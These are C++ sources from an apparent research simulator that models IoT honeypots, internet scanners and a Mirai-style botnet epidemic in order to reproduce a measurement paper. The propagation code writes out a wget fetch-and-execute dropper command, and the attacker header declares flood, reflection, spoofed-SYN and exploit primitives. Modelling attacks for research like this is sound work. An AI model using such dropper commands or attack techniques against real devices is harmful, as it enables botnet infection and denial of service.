std::vector<MisconfigFinding> filter_honeypots(
    std::vector<MisconfigFinding> findings, const FingerprintResult& result) {
  findings.erase(
      std::remove_if(findings.begin(), findings.end(),
                     [&result](const MisconfigFinding& finding) {
                       return result.honeypot_hosts.count(
                                  finding.host.value()) != 0;
                     }),
      findings.end());
  return findings;
}

}  // namespace ofh::classify
