// Honeypot fingerprinting (paper §3.2 / Table 6): matches the static Telnet
// banners of known honeypots against scan records and filters the detected
// instances out of the misconfiguration findings. Extends the banner-based
// methodology of Morishita et al. / Vetterl et al. to IoT honeypots.
#pragma once

#include <optional>
#include <set>
#include <string>

#include "classify/misconfig_rules.h"
#include "honeynet/signatures.h"
#include "scanner/scan_db.h"
#include "util/stats.h"

namespace ofh::classify {

// Which honeypot (if any) this record's banner identifies.
std::optional<std::string> fingerprint_honeypot(
    const scanner::ScanRecord& record);

struct FingerprintResult {
  // honeypot name -> detected instance count (Table 6).
  util::Counter detections;
  // Hosts identified as honeypots.
  std::set<std::uint32_t> honeypot_hosts;
};

FingerprintResult fingerprint_all(const scanner::ScanDb& db);

// Removes findings whose host was fingerprinted as a honeypot — the
// sanitization step that keeps honeypots from poisoning the results.
std::vector<MisconfigFinding> filter_honeypots(
    std::vector<MisconfigFinding> findings, const FingerprintResult& result);

}  // namespace ofh::classify
