#include "classify/active_fingerprint.h"

#include "classify/fingerprint.h"
#include "honeynet/signatures.h"
#include "obs/trace.h"
#include "util/strings.h"

namespace ofh::classify {

namespace {

struct ProbeState {
  ActiveProbeResult result;
  std::string first_banner;
  std::string second_banner;
  std::string garbage_reply;
  int stage = 0;  // 0: first grab, 1: second grab, 2: garbage
  int attempt = 1;          // connect attempt within the current stage
  int connect_attempts = 1;
  std::uint64_t trace_id = 0;  // causal id re-published across retry timers
  bool finished = false;
  ActiveFingerprinter::Callback callback;

  void finish() {
    if (finished) return;
    finished = true;
    if (callback) callback(result);
  }
};

void run_stage(net::Host& from, util::Ipv4Addr target, std::uint16_t port,
               std::shared_ptr<ProbeState> state,
               sim::Duration step_timeout);

void evaluate(net::Host& from, util::Ipv4Addr target, std::uint16_t port,
              std::shared_ptr<ProbeState> state,
              sim::Duration step_timeout) {
  ++state->stage;
  state->attempt = 1;  // each stage gets a fresh retry budget
  if (state->stage < 3) {
    run_stage(from, target, port, state, step_timeout);
    return;
  }
  // All three connections resolved: score the checks.
  auto& result = state->result;
  for (const auto& signature : honeynet::honeypot_signatures()) {
    if (util::starts_with(state->first_banner, signature.banner)) {
      result.banner_match = true;
      result.banner_name = signature.name;
    }
  }
  result.deterministic = !state->first_banner.empty() &&
                         state->first_banner == state->second_banner;
  // A polite (non-empty, non-error) reply to garbage is a tell.
  result.tolerates_garbage =
      !state->garbage_reply.empty() &&
      !util::icontains(state->garbage_reply, "error") &&
      !util::icontains(state->garbage_reply, "incorrect") &&
      !util::icontains(state->garbage_reply, "not found");
  state->finish();
}

void run_stage(net::Host& from, util::Ipv4Addr target, std::uint16_t port,
               std::shared_ptr<ProbeState> state,
               sim::Duration step_timeout) {
  from.tcp().connect_ex(
      target, port,
      [&from, target, port, state, step_timeout](net::TcpConnection* conn,
                                                 net::ConnectOutcome outcome) {
        if (conn == nullptr) {
          if (outcome == net::ConnectOutcome::kTimeout &&
              state->attempt < state->connect_attempts) {
            // A lost SYN under fault injection would otherwise read as an
            // unreachable (stage 0) or non-deterministic (stage 1) target.
            ++state->attempt;
            from.sim().after(step_timeout / 2,
                             [&from, target, port, state, step_timeout] {
                               const obs::TraceContext trace_context(
                                   state->trace_id);
                               run_stage(from, target, port, state,
                                         step_timeout);
                             });
            return;
          }
          if (state->stage == 0) {
            state->finish();  // unreachable: nothing to fingerprint
          } else {
            evaluate(from, target, port, state, step_timeout);
          }
          return;
        }
        state->result.connected = true;
        auto collected = std::make_shared<std::string>();
        if (state->stage == 2) {
          // Garbage check: random line noise, then read the reaction.
          conn->send_text("\x16\x02GARBAGE#!$%\r\n");
        }
        conn->on_data = [collected](net::TcpConnection&,
                                    std::span<const std::uint8_t> data) {
          *collected += util::to_string(data);
        };
        const net::ConnKey key{conn->local_port(), conn->remote_addr(),
                               conn->remote_port()};
        net::TcpStack* stack = &from.tcp();
        from.sim().after(step_timeout, [&from, target, port, state, collected,
                                        stack, key, step_timeout] {
          net::TcpConnection* live = stack->lookup(key);
          if (live != nullptr) live->abort();
          switch (state->stage) {
            case 0: state->first_banner = *collected; break;
            case 1: state->second_banner = *collected; break;
            default: state->garbage_reply = *collected; break;
          }
          evaluate(from, target, port, state, step_timeout);
        });
      });
}

}  // namespace

void ActiveFingerprinter::probe(net::Host& from, util::Ipv4Addr target,
                                std::uint16_t port, Callback done,
                                sim::Duration step_timeout,
                                int connect_attempts) {
  auto state = std::make_shared<ProbeState>();
  state->callback = std::move(done);
  state->connect_attempts = connect_attempts;
  state->trace_id = obs::current_trace_id();
  run_stage(from, target, port, state, step_timeout);
}

}  // namespace ofh::classify
