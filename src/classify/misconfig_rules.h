// Banner-based (TCP) and response-based (UDP) misconfiguration
// classification, implementing the indicator rules of paper Tables 2 and 3.
// The classifier sees only scan records (raw bytes), never ground truth.
#pragma once

#include <optional>

#include "devices/misconfig.h"
#include "scanner/scan_db.h"

namespace ofh::classify {

// Classifies one scan record; nullopt when the response shows no
// misconfiguration indicator.
std::optional<devices::Misconfig> classify_misconfig(
    const scanner::ScanRecord& record);

struct MisconfigFinding {
  util::Ipv4Addr host;
  proto::Protocol protocol;
  devices::Misconfig misconfig;
};

// Classifies a whole scan DB; one finding per unique host (the most severe
// indicator wins if a host matched several records).
std::vector<MisconfigFinding> classify_all(const scanner::ScanDb& db);

}  // namespace ofh::classify
