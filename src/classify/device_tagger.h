// ZTag-style device-type annotation: matches scan banners/responses against
// the Table 11 identifier table to label device types (paper §4.1.2 /
// Figure 2). XMPP and AMQP responses carry no device identifiers, matching
// the paper's observation that those protocols could not label IoT devices.
#pragma once

#include <optional>
#include <string>

#include "devices/models.h"
#include "scanner/scan_db.h"
#include "util/stats.h"

namespace ofh::classify {

struct DeviceTag {
  std::string model;
  std::string device_type;
};

// Tags one record; nullopt when no identifier matches.
std::optional<DeviceTag> tag_device(const scanner::ScanRecord& record);

// Per-protocol device-type histogram over a scan DB (Figure 2's data).
std::map<proto::Protocol, util::Counter> type_histogram(
    const scanner::ScanDb& db);

}  // namespace ofh::classify
