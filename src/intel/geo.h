// Synthetic geolocation database (the paper uses ipgeolocation.io). Maps
// prefixes to countries; seeded from the population's allocation, so lookups
// reflect the same ground truth the devices were planted with.
#pragma once

#include <string>
#include <vector>

#include "devices/population.h"
#include "util/ipv4.h"

namespace ofh::intel {

class GeoDb {
 public:
  GeoDb() = default;
  // Builds the prefix->country table from a population.
  explicit GeoDb(const devices::Population& population);

  void add(util::Cidr prefix, std::string country);

  // Country name, or "Other" when no prefix covers the address.
  std::string country(util::Ipv4Addr addr) const;

  std::size_t prefix_count() const { return entries_.size(); }

 private:
  struct Entry {
    util::Cidr prefix;
    std::string country;
  };
  std::vector<Entry> entries_;
};

}  // namespace ofh::intel
