#include "intel/geo.h"

namespace ofh::intel {

GeoDb::GeoDb(const devices::Population& population) {
  const auto& prefixes = population.prefixes();
  const auto& countries = population.prefix_country();
  for (std::size_t i = 0; i < prefixes.size() && i < countries.size(); ++i) {
    add(prefixes[i], countries[i]);
  }
}

void GeoDb::add(util::Cidr prefix, std::string country) {
  entries_.push_back({prefix, std::move(country)});
}

std::string GeoDb::country(util::Ipv4Addr addr) const {
  for (const auto& entry : entries_) {
    if (entry.prefix.contains(addr)) return entry.country;
  }
  return "Other";
}

}  // namespace ofh::intel
