// Threat-intelligence oracles: synthetic-but-independent equivalents of
// VirusTotal (IP/URL/hash reputation), GreyNoise (scanner classification)
// and Censys (IoT device tags). Each oracle has *partial coverage*, seeded
// independently of the measurement pipeline, so cross-validation figures
// (paper Figures 5, 6) compare genuinely different observers.
#pragma once

#include <map>
#include <optional>
#include <set>
#include <string>

#include "util/ipv4.h"
#include "util/rng.h"

namespace ofh::intel {

// --------------------------------------------------------------- VirusTotal

class VirusTotalDb {
 public:
  // Registers a malicious IP with the number of vendors flagging it.
  void flag_ip(util::Ipv4Addr addr, int positives = 1);
  // VirusTotal "positives" score; 0 = clean/unknown.
  int ip_positives(util::Ipv4Addr addr) const;
  bool is_malicious(util::Ipv4Addr addr) const {
    return ip_positives(addr) > 0;
  }

  void flag_url(const std::string& url);
  bool url_malicious(const std::string& url) const;

  // Malware hash corpus: sha256 -> family name.
  void add_hash(const std::string& sha256, const std::string& family);
  std::optional<std::string> lookup_hash(const std::string& sha256) const;
  std::size_t hash_count() const { return hashes_.size(); }

 private:
  std::map<std::uint32_t, int> ip_positives_;
  std::set<std::string> urls_;
  std::map<std::string, std::string> hashes_;
};

// ---------------------------------------------------------------- GreyNoise

enum class GreyNoiseClass { kBenign, kMalicious, kUnknown };

class GreyNoiseDb {
 public:
  void classify(util::Ipv4Addr addr, GreyNoiseClass klass);
  GreyNoiseClass lookup(util::Ipv4Addr addr) const;

  std::size_t known_count() const { return classes_.size(); }

 private:
  std::map<std::uint32_t, GreyNoiseClass> classes_;
};

// ------------------------------------------------------------------- Censys

class CensysDb {
 public:
  void tag_iot(util::Ipv4Addr addr, std::string device_type);
  // Returns the device type if Censys tagged this IP "iot".
  std::optional<std::string> iot_tag(util::Ipv4Addr addr) const;

 private:
  std::map<std::uint32_t, std::string> tags_;
};

// --------------------------------------------------------------- ExoneraTor

// Tor-relay lookup (the paper uses the Tor project's ExoneraTor service to
// attribute 151 HTTP attack source IPs to Tor exit relays, §5.1.6).
class ExoneraTor {
 public:
  void add_relay(util::Ipv4Addr addr) { relays_.insert(addr.value()); }
  bool was_relay(util::Ipv4Addr addr) const {
    return relays_.count(addr.value()) != 0;
  }
  std::size_t relay_count() const { return relays_.size(); }

 private:
  std::set<std::uint32_t> relays_;
};

// -------------------------------------------------------------- reverse DNS

class ReverseDns {
 public:
  void add(util::Ipv4Addr addr, std::string domain);
  std::optional<std::string> lookup(util::Ipv4Addr addr) const;

 private:
  std::map<std::uint32_t, std::string> records_;
};

}  // namespace ofh::intel
