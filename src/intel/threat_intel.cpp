#include "intel/threat_intel.h"

namespace ofh::intel {

void VirusTotalDb::flag_ip(util::Ipv4Addr addr, int positives) {
  auto& current = ip_positives_[addr.value()];
  if (positives > current) current = positives;
}

int VirusTotalDb::ip_positives(util::Ipv4Addr addr) const {
  const auto it = ip_positives_.find(addr.value());
  return it == ip_positives_.end() ? 0 : it->second;
}

void VirusTotalDb::flag_url(const std::string& url) { urls_.insert(url); }

bool VirusTotalDb::url_malicious(const std::string& url) const {
  return urls_.count(url) != 0;
}

void VirusTotalDb::add_hash(const std::string& sha256,
                            const std::string& family) {
  hashes_[sha256] = family;
}

std::optional<std::string> VirusTotalDb::lookup_hash(
    const std::string& sha256) const {
  const auto it = hashes_.find(sha256);
  if (it == hashes_.end()) return std::nullopt;
  return it->second;
}

void GreyNoiseDb::classify(util::Ipv4Addr addr, GreyNoiseClass klass) {
  classes_[addr.value()] = klass;
}

GreyNoiseClass GreyNoiseDb::lookup(util::Ipv4Addr addr) const {
  const auto it = classes_.find(addr.value());
  return it == classes_.end() ? GreyNoiseClass::kUnknown : it->second;
}

void CensysDb::tag_iot(util::Ipv4Addr addr, std::string device_type) {
  tags_[addr.value()] = std::move(device_type);
}

std::optional<std::string> CensysDb::iot_tag(util::Ipv4Addr addr) const {
  const auto it = tags_.find(addr.value());
  if (it == tags_.end()) return std::nullopt;
  return it->second;
}

void ReverseDns::add(util::Ipv4Addr addr, std::string domain) {
  records_[addr.value()] = std::move(domain);
}

std::optional<std::string> ReverseDns::lookup(util::Ipv4Addr addr) const {
  const auto it = records_.find(addr.value());
  if (it == records_.end()) return std::nullopt;
  return it->second;
}

}  // namespace ofh::intel
