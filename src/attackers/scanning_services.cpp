#include "attackers/scanning_services.h"

#include "attackers/probes.h"

#include "net/fabric.h"

namespace ofh::attackers {

const std::vector<ScanServiceSpec>& scan_service_specs() {
  // The services identified in the paper's Figure 3 roster; shares are an
  // approximation of the relative traffic split it plots.
  static const std::vector<ScanServiceSpec> kSpecs = {
      {"Stretchoid", "stretchoid.com", 0.14, sim::days(2), false},
      {"Censys", "censys-scanner.com", 0.12, sim::days(1), true},
      {"Shodan", "shodan.io", 0.11, sim::days(2), true},
      {"Bitsight", "bitsight.com", 0.08, sim::days(3), false},
      {"BinaryEdge", "binaryedge.ninja", 0.08, sim::days(2), true},
      {"ProjectSonar", "sonar.labs.rapid7.com", 0.07, sim::days(3), false},
      {"ShadowServer", "shadowserver.org", 0.06, sim::days(1), false},
      {"InterneTTL", "internettl.org", 0.05, sim::days(4), false},
      {"AlphaStrike", "alphastrike.io", 0.04, sim::days(4), false},
      {"Sharashka", "sharashka.io", 0.04, sim::days(5), false},
      {"RWTH-Aachen", "researchscan.comsys.rwth-aachen.de", 0.04,
       sim::days(5), false},
      {"CriminalIP", "security.criminalip.com", 0.03, sim::days(5), true},
      {"ipip.net", "ipip.net", 0.03, sim::days(6), false},
      {"NetSystemsResearch", "netsystemsresearch.com", 0.03, sim::days(6),
       false},
      {"LeakIX", "leakix.net", 0.02, sim::days(6), true},
      {"ONYPHE", "onyphe.io", 0.02, sim::days(6), true},
      {"Natlas", "natlas.io", 0.02, sim::days(7), false},
      {"Quadmetrics", "quadmetrics.com", 0.01, sim::days(7), false},
      {"ZoomEye", "zoomeye.org", 0.01, sim::days(3), true},
      {"ArborObservatory", "arbor-observatory.com", 0.01, sim::days(7),
       false},
  };
  return kSpecs;
}

ScanServiceFleet::ScanServiceFleet(Config config,
                                   std::vector<util::Ipv4Addr> targets,
                                   util::Cidr telescope_range)
    : config_(std::move(config)),
      targets_(std::move(targets)),
      telescope_range_(telescope_range),
      rng_(util::Rng(config_.seed).fork("scan-services")) {}

void ScanServiceFleet::deploy(
    net::Fabric& fabric, intel::ReverseDns& rdns,
    std::function<util::Ipv4Addr()> allocate_address) {
  fabric_ = &fabric;
  const auto& specs = scan_service_specs();

  // Apportion sources by traffic share, at least one each.
  for (const auto& spec : specs) {
    Service service;
    service.spec = spec;
    const auto count = std::max<std::size_t>(
        1, static_cast<std::size_t>(config_.total_sources * spec.traffic_share +
                                    0.5));
    for (std::size_t i = 0; i < count; ++i) {
      auto host = std::make_unique<net::Host>(allocate_address());
      rdns.add(host->address(),
               "scan-" + std::to_string(i) + "." + spec.domain);
      host->attach(fabric);
      service.hosts.push_back(std::move(host));
    }
    services_.push_back(std::move(service));
  }

  for (std::size_t i = 0; i < services_.size(); ++i) schedule_scans(i);
}

std::vector<util::Ipv4Addr> ScanServiceFleet::source_addresses() const {
  std::vector<util::Ipv4Addr> out;
  for (const auto& service : services_) {
    for (const auto& host : service.hosts) out.push_back(host->address());
  }
  return out;
}

std::optional<std::string> ScanServiceFleet::service_of(
    util::Ipv4Addr addr) const {
  for (const auto& service : services_) {
    for (const auto& host : service.hosts) {
      if (host->address() == addr) return service.spec.name;
    }
  }
  return std::nullopt;
}

void ScanServiceFleet::schedule_scans(std::size_t service_index) {
  auto& service = services_[service_index];
  sim::Simulation& sim = fabric_->sim();

  // First full sweep starts at a random phase within the period; recurring
  // thereafter. Each sweep probes every honeypot on all six protocols plus
  // a handful of telescope addresses (scanning services show up in the
  // telescope's scanning-service tally, Table 8).
  const sim::Duration phase = rng_.below(service.spec.period);
  const std::uint64_t sweeps =
      config_.duration / service.spec.period + 1;

  for (std::uint64_t sweep = 0; sweep < sweeps; ++sweep) {
    const sim::Time start =
        phase + sweep * service.spec.period;
    if (start > config_.duration) break;

    sim.at(start, [this, service_index] {
      auto& service = services_[service_index];
      util::Rng sweep_rng = rng_.fork("sweep");
      for (const auto target : targets_) {
        // A random source host of this service probes all protocols.
        net::Host& source =
            *service.hosts[sweep_rng.below(service.hosts.size())];
        probe_all_protocols(source, target);

        // Public search engines list the honeypot after first contact, with
        // a publication lag of roughly one crawl period (Figure 8's listing
        // markers fall days into the deployment, not on day one).
        if (service.spec.listed_publicly &&
            service.listed.insert(target.value()).second) {
          const sim::Duration lag =
              service.spec.period + sim::days(3);
          fabric_->sim().after(lag, [this, service_index, target] {
            const ListingEvent event{services_[service_index].spec.name,
                                     target, fabric_->sim().now()};
            listings_.push_back(event);
            if (config_.on_listing) config_.on_listing(event);
          });
        }
      }
      // Telescope sweep sample.
      net::Host& source = *service.hosts[0];
      for (int i = 0; i < 8; ++i) {
        const util::Ipv4Addr dark(
            telescope_range_.base().value() +
            static_cast<std::uint32_t>(
                sweep_rng.below(telescope_range_.size())));
        probe_one_protocol(source, dark,
                           proto::scanned_protocols()[i % 6]);
      }
    });
  }
}

}  // namespace ofh::attackers
