// Mirai-style self-propagation: an epidemic model over the simulated
// population. Seed bots scan for Telnet devices, brute-force them with the
// Table 12 credential dictionary over the real protocol engines, and every
// compromised device joins the botnet and scans in turn. This reproduces
// the paper's core warning — "many of the misconfigured devices take
// themselves the role of the attacker as part of malware propagation
// campaigns" (§6) — as an executable dynamic, and yields the classic
// logistic growth curve (bench/ext_mirai_propagation).
#pragma once

#include <functional>
#include <set>
#include <vector>

#include "attackers/malware.h"
#include "devices/population.h"
#include "net/fabric.h"
#include "sim/time.h"

namespace ofh::attackers {

struct PropagationConfig {
  std::uint64_t seed = 1;
  sim::Duration duration = sim::days(7);
  // Number of initially-infected devices (picked from the population's
  // unauthenticated-Telnet devices).
  std::size_t initial_bots = 2;
  // Scan attempts per bot per hour. Real Mirai probes the whole IPv4 space;
  // bots here draw targets from the populated prefixes, so the rate is the
  // *effective* rate against routable, populated space.
  double attempts_per_bot_per_hour = 8.0;
  // Credentials tried per attempt.
  std::size_t credentials_per_attempt = 4;
};

class Epidemic {
 public:
  Epidemic(PropagationConfig config, devices::Population& population,
           const MalwareCorpus& corpus);

  // Seeds the initial bots and schedules their scan loops.
  void deploy(net::Fabric& fabric);

  std::size_t infected_count() const { return infected_.size(); }
  bool is_infected(util::Ipv4Addr addr) const {
    return infected_addresses_.count(addr.value()) != 0;
  }
  std::size_t susceptible_count() const;  // devices a bot could compromise

  // (time, infected cumulative count) samples, one per new infection.
  const std::vector<std::pair<sim::Time, std::size_t>>& growth_curve() const {
    return growth_;
  }
  std::uint64_t attempts() const { return attempts_; }

 private:
  void start_bot(devices::Device* bot);
  void bot_attempt(devices::Device* bot);
  void infect(devices::Device* victim);

  PropagationConfig config_;
  devices::Population& population_;
  const MalwareCorpus& corpus_;
  net::Fabric* fabric_ = nullptr;
  util::Rng rng_;
  std::vector<devices::Device*> infected_;
  std::set<std::uint32_t> infected_addresses_;
  std::vector<std::pair<sim::Time, std::size_t>> growth_;
  std::uint64_t attempts_ = 0;
};

}  // namespace ofh::attackers
