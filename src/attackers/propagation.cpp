#include "attackers/propagation.h"

#include "attackers/credentials.h"
#include "proto/telnet.h"

namespace ofh::attackers {

namespace {

// A device is a potential victim if its Telnet console is reachable with no
// authentication or with dictionary credentials.
bool is_susceptible(const devices::Device& device) {
  const auto& spec = device.spec();
  if (spec.primary != proto::Protocol::kTelnet) return false;
  return spec.misconfig == devices::Misconfig::kTelnetNoAuth ||
         spec.misconfig == devices::Misconfig::kTelnetNoAuthRoot ||
         spec.weak_credentials;
}

// Column-level twin of is_susceptible, so the census doesn't materialize.
bool is_susceptible_at(const devices::Population& population,
                       std::uint64_t i) {
  if (population.primary_at(i) != proto::Protocol::kTelnet) return false;
  const auto misconfig = population.misconfig_at(i);
  return misconfig == devices::Misconfig::kTelnetNoAuth ||
         misconfig == devices::Misconfig::kTelnetNoAuthRoot ||
         population.weak_credentials_at(i);
}

}  // namespace

Epidemic::Epidemic(PropagationConfig config, devices::Population& population,
                   const MalwareCorpus& corpus)
    : config_(config),
      population_(population),
      corpus_(corpus),
      rng_(util::Rng(config.seed).fork("epidemic")) {}

std::size_t Epidemic::susceptible_count() const {
  std::size_t count = 0;
  for (std::uint64_t i = 0; i < population_.size(); ++i) {
    if (is_susceptible_at(population_, i)) ++count;
  }
  return count;
}

void Epidemic::deploy(net::Fabric& fabric) {
  fabric_ = &fabric;
  // Seed with unauthenticated-Telnet devices (trivially infected). Only the
  // sampled seeds materialize; the candidate census stays in the columns.
  std::vector<std::uint64_t> seeds;
  for (std::uint64_t i = 0; i < population_.size(); ++i) {
    const auto misconfig = population_.misconfig_at(i);
    if (misconfig == devices::Misconfig::kTelnetNoAuth ||
        misconfig == devices::Misconfig::kTelnetNoAuthRoot) {
      seeds.push_back(i);
    }
  }
  for (std::size_t i = 0; i < config_.initial_bots && !seeds.empty(); ++i) {
    const std::uint64_t seed = seeds[rng_.below(seeds.size())];
    if (infected_addresses_.count(population_.address_at(seed).value()) != 0) {
      continue;
    }
    infect(population_.device_at(seed));
  }
}

void Epidemic::infect(devices::Device* victim) {
  if (!infected_addresses_.insert(victim->address().value()).second) return;
  infected_.push_back(victim);
  growth_.push_back({fabric_->sim().now(), infected_.size()});
  start_bot(victim);
}

void Epidemic::start_bot(devices::Device* bot) {
  // Exponential inter-attempt gaps (a Poisson scanning process per bot).
  const double mean_gap_us =
      3.6e9 / std::max(0.01, config_.attempts_per_bot_per_hour);
  const auto delay =
      static_cast<sim::Duration>(rng_.exponential(mean_gap_us));
  fabric_->sim().after(delay, [this, bot] {
    if (fabric_->sim().now() >= config_.duration) return;
    bot_attempt(bot);
    start_bot(bot);  // reschedule the loop
  });
}

void Epidemic::bot_attempt(devices::Device* bot) {
  if (!bot->attached()) return;
  ++attempts_;
  // Pick a target in the populated prefixes (local-preference scanning).
  const auto& prefixes = population_.prefixes();
  const auto& prefix = prefixes[rng_.below(prefixes.size())];
  const util::Ipv4Addr target(
      prefix.base().value() +
      static_cast<std::uint32_t>(rng_.below(prefix.size())));
  if (target == bot->address()) return;
  if (infected_addresses_.count(target.value()) != 0) return;  // known bot

  auto credentials = sample_credentials(proto::Protocol::kTelnet, rng_,
                                        config_.credentials_per_attempt);
  const auto& sample = corpus_.samples().front();  // the Mirai loader
  std::vector<std::string> commands = {
      "wget " + sample.dropper_url + " -O /tmp/.m; /tmp/.m"};

  proto::telnet::TelnetClient::run(
      *bot, target, 23, std::move(credentials), std::move(commands),
      [this, target](const proto::telnet::TelnetClient::Result& result) {
        if (!result.shell) return;
        // Shell obtained: the dropper ran, the device joins the botnet.
        net::Host* host = fabric_->host_at(target);
        if (host == nullptr) return;
        auto* victim = dynamic_cast<devices::Device*>(host);
        if (victim == nullptr || !is_susceptible(*victim)) return;
        infect(victim);
      });
}

}  // namespace ofh::attackers
