// Client-side probe and attack primitives: small fire-and-forget actions a
// host can launch against a target. Scanning services use the benign
// probes; bots compose the malicious ones into sessions.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "attackers/malware.h"
#include "net/host.h"
#include "proto/service.h"
#include "util/ipv4.h"

namespace ofh::attackers {

// Benign single-protocol probe (SYN + protocol hello, then abort).
void probe_one_protocol(net::Host& from, util::Ipv4Addr target,
                        proto::Protocol protocol);
// Probes all six scanned protocols plus the honeypot-side extras the
// scanning services index (SSH, HTTP).
void probe_all_protocols(net::Host& from, util::Ipv4Addr target);

// Malicious primitives ------------------------------------------------------

// Telnet/SSH brute force; on success sends a dropper one-liner fetching the
// given malware sample. connect_attempts bounds Telnet SYN retries when the
// connect times out under fault injection (Mirai loaders retry lost SYNs);
// the default of 1 preserves fault-free behaviour.
void bruteforce_telnet(net::Host& from, util::Ipv4Addr target,
                       std::vector<proto::Credentials> credentials,
                       const MalwareSample* drop, int connect_attempts = 1);
void bruteforce_ssh(net::Host& from, util::Ipv4Addr target,
                    std::vector<proto::Credentials> credentials,
                    const MalwareSample* drop);

// MQTT: connect without credentials, read $SYS, poison a topic.
void attack_mqtt(net::Host& from, util::Ipv4Addr target, bool poison);

// AMQP: anonymous auth, publish poisoned messages (optionally a flood).
void attack_amqp(net::Host& from, util::Ipv4Addr target, int publish_count);

// XMPP: anonymous login, then write the light state (ThingPot's bait).
void attack_xmpp(net::Host& from, util::Ipv4Addr target);

// CoAP: discovery, then PUT-poison a resource.
void attack_coap(net::Host& from, util::Ipv4Addr target, bool poison);
// CoAP/SSDP UDP flood (DoS): `packets` datagrams in a burst. Counts are
// 64-bit: flood sizes scale with event_scale and must not wrap at paper
// scale (the 32-bit overflow sweep of the scale PR).
void flood_coap(net::Host& from, util::Ipv4Addr target, std::int64_t packets);
void flood_ssdp(net::Host& from, util::Ipv4Addr target, std::int64_t packets);

// Reflection: spoofed discovery requests bouncing off `reflector` onto
// `victim`.
void reflect_udp(net::Host& from, util::Ipv4Addr reflector,
                 util::Ipv4Addr victim, proto::Protocol protocol,
                 std::int64_t packets);

// HTTP: scrape paths / brute-force the login form / flood.
void attack_http(net::Host& from, util::Ipv4Addr target, bool scrape,
                 bool bruteforce);
void flood_http(net::Host& from, util::Ipv4Addr target,
                std::int64_t requests);

// SMB: negotiate then launch an Eternal*-style exploit.
void attack_smb(net::Host& from, util::Ipv4Addr target, bool exploit);

// FTP: anonymous login and STOR a malware payload.
void attack_ftp(net::Host& from, util::Ipv4Addr target,
                const MalwareSample* drop);

// Modbus: read then overwrite holding registers; ~90% invalid function
// codes as the paper observed.
void attack_modbus(net::Host& from, util::Ipv4Addr target, util::Rng& rng);

// S7: job-request flood (ICSA-16-299-01 DoS) or a single reconnaissance job.
void attack_s7(net::Host& from, util::Ipv4Addr target, int jobs);

// Telescope scanning: raw SYN / UDP probe to a darknet address (what
// background radiation and infected devices send at the telescope).
void scan_address(net::Host& from, util::Ipv4Addr target,
                  proto::Protocol protocol, bool masscan_fingerprint = false);

// Randomly-spoofed SYN flood (RSDoS): SYNs towards victim:port with forged
// sources drawn uniformly from the IPv4 space. The victim's SYN-ACK/RST
// replies spray everywhere — the slice landing in a darknet is the
// backscatter that telescope RSDoS detection reconstructs attacks from.
void syn_flood_spoofed(net::Host& from, util::Ipv4Addr victim,
                       std::uint16_t port, std::int64_t packets,
                       util::Rng& rng);

}  // namespace ofh::attackers
