// Benign Internet-wide scanning services (Shodan, Censys, BinaryEdge,
// Project Sonar, Stretchoid, ... — the Figure 3 roster). Each service owns a
// pool of source hosts with reverse-DNS records under its domain, scans the
// honeypots' protocols on a recurring schedule (scanning-service traffic is
// periodic, unlike one-shot suspicious scans), probes the telescope, and
// "lists" a honeypot after first discovering it — the listing events of
// Figure 8 that precede attack-volume increases.
#pragma once

#include <functional>
#include <memory>
#include <string>
#include <vector>

#include "net/host.h"
#include "intel/threat_intel.h"
#include "sim/time.h"
#include "util/ipv4.h"
#include "util/rng.h"

namespace ofh::attackers {

struct ScanServiceSpec {
  std::string name;
  std::string domain;        // rdns suffix, e.g. "shodan.io"
  double traffic_share;      // share of scanning-service traffic (Fig 3)
  sim::Duration period;      // full re-scan period
  bool listed_publicly;      // services with public search engines (listing
                             // on these drives the Fig 8 uptrend)
};

const std::vector<ScanServiceSpec>& scan_service_specs();

struct ListingEvent {
  std::string service;
  util::Ipv4Addr honeypot;
  sim::Time when;
};

class ScanServiceFleet {
 public:
  struct Config {
    std::uint64_t seed = 1;
    // Total scanning-service source IPs (paper: 10,696) after scaling.
    std::size_t total_sources = 100;
    sim::Duration duration = sim::days(30);
    // Called when a public service lists a honeypot for the first time.
    std::function<void(const ListingEvent&)> on_listing;
  };

  ScanServiceFleet(Config config, std::vector<util::Ipv4Addr> targets,
                   util::Cidr telescope_range);

  // Creates hosts, registers rdns, schedules the recurring scans.
  void deploy(net::Fabric& fabric, intel::ReverseDns& rdns,
              std::function<util::Ipv4Addr()> allocate_address);

  const std::vector<ListingEvent>& listings() const { return listings_; }
  // Ground truth: all source addresses operated by scanning services.
  std::vector<util::Ipv4Addr> source_addresses() const;
  // Which service (if any) operates this address.
  std::optional<std::string> service_of(util::Ipv4Addr addr) const;

 private:
  class ServiceHost;

  void schedule_scans(std::size_t service_index);

  Config config_;
  std::vector<util::Ipv4Addr> targets_;
  util::Cidr telescope_range_;
  net::Fabric* fabric_ = nullptr;
  util::Rng rng_{0};
  struct Service {
    ScanServiceSpec spec;
    std::vector<std::unique_ptr<net::Host>> hosts;
    std::set<std::uint32_t> listed;  // honeypots already listed
  };
  std::vector<Service> services_;
  std::vector<ListingEvent> listings_;
};

}  // namespace ofh::attackers
