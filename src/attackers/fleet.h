// The attacker fleet: orchestrates the one-month attack campaign against
// the honeynet and the telescope. It combines
//   - infected population devices (attacks originate from their real IPs,
//     so the §5.3 correlation is a genuine measurement),
//   - external malicious hosts from the wider (synthetic) Internet,
//   - recurring scanning services (ScanServiceFleet),
//   - DoS events (including the day-24/day-26 spikes of Figure 8),
//   - multistage attackers (Figure 9),
//   - telescope background radiation (Table 8's traffic mix).
// Arrival intensities are calibrated to the paper's Table 7/8 counts at the
// configured scale; the *classification* of the resulting traffic is left
// entirely to the measurement side.
#pragma once

#include <memory>
#include <set>
#include <vector>

#include "attackers/malware.h"
#include "attackers/scanning_services.h"
#include "devices/population.h"
#include "honeynet/deployments.h"
#include "intel/threat_intel.h"
#include "net/fabric.h"
#include "telescope/telescope.h"

namespace ofh::attackers {

// Which attacker groups the fleet actually deploys. Every toggle defaults
// on (the paper's full campaign); scenario files (core/scenario.h) switch
// groups off to carve out single-pipeline runs — a Mirai-only outbreak is
// `infected` alone, a telescope-only vantage point is `background` alone.
// Each group draws from its own labelled rng fork, so disabling one never
// shifts another group's arrival sequence.
struct Roster {
  bool scan_services = true;  // recurring benign scanners + public listings
  bool infected = true;       // misconfigured-population bots (§5.3 sources)
  bool external = true;       // Table 7 external malicious pool + Tor exits
  bool dos = true;            // Figure 8 day-24/26 DoS spikes + RSDoS floods
  bool multistage = true;     // Figure 9 scan->bruteforce->inject attackers
  bool background = true;     // Table 8 telescope background radiation

  bool all_enabled() const {
    return scan_services && infected && external && dos && multistage &&
